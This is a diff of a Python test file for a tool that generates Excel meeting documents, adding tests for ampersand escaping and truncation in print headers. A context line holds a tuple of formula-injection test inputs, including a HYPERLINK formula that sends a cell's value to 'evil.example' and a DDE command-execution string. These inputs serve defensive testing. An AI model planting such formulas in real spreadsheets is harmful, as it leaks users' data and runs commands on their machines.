@@ -11,7 +11,7 @@ import pytest
 from openpyxl import Workbook
 
 from kldocs.app import plan
-from kldocs.engine.workbook import append_row, print_as_list, workbook_bytes
+from kldocs.engine.workbook import HEADER_LIMIT, append_row, print_as_list, print_header, workbook_bytes
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A2,"Mette")', "=1+1 Partnerskabsmøde", "+45 33 70 33 70",
             "-5 kommuner", "@SUM(A1)", "=cmd|' /C calc'!A0", "'=quoted already")
@@ -94,3 +94,17 @@ class DescribePrintAsList:
         for data in [*lists, status.read_bytes()]:
             first = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
             assert first.print_title_rows == "$1:$1" and first.page_setup.orientation == "landscape"
+
+    def it_heads_every_page_with_what_the_list_is_of_its_ampersands_written_as_text(self):
+        book = Workbook()
+        print_header(book.active, "Seminar – Salen & Co, 10 % af &P")
+        sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, "kldocs test"))).active
+        assert sheet.oddHeader.center.text == "Seminar – Salen && Co, 10 % af &&P"  # Excel prints one '&' of each
+        print_header(book.active, "x" * 300)
+        assert len(book.active.oddHeader.center.text) == HEADER_LIMIT and book.active.oddHeader.center.text[-1] == "…"
+
+    def it_heads_a_participant_list_with_its_meeting(self, example_dir):
+        (first, *_) = [f for f in plan("meetings", example_dir).files if f.relpath.endswith(".xlsx")]
+        sheet = openpyxl.load_workbook(io.BytesIO(first.make()))["Deltagere"]
+        assert sheet.oddHeader.center.text == ("1. partnerskabsmøde – Tirsdag den 14. september 2021 kl. 10.00–15.30, "
+                                               "KL-Huset, Weidekampsgade 10, 2300 København S")
